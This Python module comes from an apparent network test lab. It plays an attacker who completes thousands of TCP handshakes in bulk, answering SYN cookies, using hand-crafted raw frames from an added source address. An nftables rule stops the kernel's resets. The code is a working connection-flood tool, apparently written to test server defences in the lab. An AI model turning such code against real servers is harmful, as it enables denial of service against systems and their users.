"""Handshakes in bulk by an attacker who has his address: each with the cookie that he was sent."""

import contextlib
import socket
import struct
import threading
import time

from wire_lab.forgery import ACK, RST, SYN, checksum_of, word_sum

ISN = 1000
SOURCE = "198.18.7.7"  # of another /24 than the hosts of the lab
COUNT, SECONDS = 17_500, 1.2  # or as long as a busy core makes it
FIRST_PORT = 1024
ETHERNET, IP, TCP = 14, 20, 20
ETHERTYPE_IPV4 = 0x0800
# SYNs that may be unanswered at the same time: a receive ring holds them.
BATCH = 64
ANSWER_TIMEOUT_S = 0.2


class Handshakes:
    """`with Handshakes(lab, address, aborts=True) as attack`: a thread opens COUNT connections from
    SOURCE to (host, port), each from a port of its own. `aborts`: a RST follows each ACK."""

    def __init__(self, lab, address, aborts):
        self._frames = _Frames(lab.attacker.mac(), lab.server.mac(), address)
        self._aborts = aborts
        self._packets = _packets_of(lab.attacker)
        self._thread = threading.Thread(target=self._run)
        self.opened = 0
        self.seconds = 0.0

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._thread.join()
        self._packets.close()

    def running(self):
        return self._thread.is_alive()

    def __str__(self):
        return (f"{self.opened} of {COUNT} handshakes in {self.seconds:.1f} s, "
                f"{self.opened / max(self.seconds, 0.001):.0f} per second")

    def _run(self):
        started = time.monotonic()
        for first in range(0, COUNT, BATCH):
            time.sleep(max(0, started + SECONDS * first / COUNT - time.monotonic()))
            self._open(range(FIRST_PORT + first, FIRST_PORT + min(first + BATCH, COUNT)))
            self.seconds = time.monotonic() - started

    def _open(self, ports):
        for port in ports:
            self._packets.send(self._frames.make(SYN, port, ISN))
        with contextlib.suppress(TimeoutError):
            for _ in ports:
                self._answer()

    def _answer(self):
        """The end of the handshake that the next SYN-ACK begins."""
        syn_ack = self._frames.parse(self._packets.recv(2048))
        while not syn_ack:
            syn_ack = self._frames.parse(self._packets.recv(2048))
        port, isn = syn_ack
        self._packets.send(self._frames.make(ACK, port, ISN + 1, isn + 1))
        if self._aborts:
            self._packets.send(self._frames.make(RST, port, ISN + 1))
        self.opened += 1


def _packets_of(space):
    """A socket that gets what is for SOURCE. The kernel answers ARP in its name and nothing else:
    it would reset connections that it does not know."""
    space.run("ip", "address", "add", f"{SOURCE}/32", "dev", "eth0")
    space.run("nft", f"""table ip handshakes {{
        chain unknown {{
            type filter hook input priority 0;
            ip daddr {SOURCE} drop
        }}
    }}""")
    packets = space.socket(socket.AF_PACKET, socket.SOCK_RAW)
    packets.bind(("eth0", ETHERTYPE_IPV4))
    packets.settimeout(ANSWER_TIMEOUT_S)
    return packets


class _Frames:
    """Segments without options: of a frame only ports, numbers and checksums change."""

    def __init__(self, own_mac, next_hop, address):
        addresses = socket.inet_aton(SOURCE) + socket.inet_aton(address[0])
        self._port = address[1]
        self._incoming = addresses[4:] + addresses[:4] + struct.pack("!H", address[1])
        header = struct.pack("!BBHHHBBH", 0x45, 0, IP + TCP, 0, 0x4000, 64, socket.IPPROTO_TCP, 0)
        checksum = checksum_of(word_sum(header + addresses))
        macs = bytes.fromhex((next_hop + own_mac).replace(":", ""))
        self._before = (macs + struct.pack("!H", ETHERTYPE_IPV4) +
                        header[:-2] + struct.pack("!H", checksum) + addresses)
        self._sum = word_sum(addresses) + socket.IPPROTO_TCP + TCP

    def make(self, flags, port, seq, ack=0):
        ack %= 2**32
        offset_flags = (TCP // 4) << 12 | flags
        total = self._sum + port + self._port + seq + (ack >> 16) + (ack & 0xffff) + offset_flags
        window = 0xffff  # adds nothing to a sum of ones' complements
        return self._before + struct.pack("!HHIIHHHH", port, self._port, seq, ack, offset_flags,
                                          window, checksum_of(total), 0)

    def parse(self, frame):
        """(port, ISN) of a SYN-ACK for us."""
        ports = ETHERNET + IP
        if frame[ports - 8:ports + 2] != self._incoming or frame[ports + 13] != SYN | ACK:
            return None
        return struct.unpack_from("!HI", frame, ports + 2)
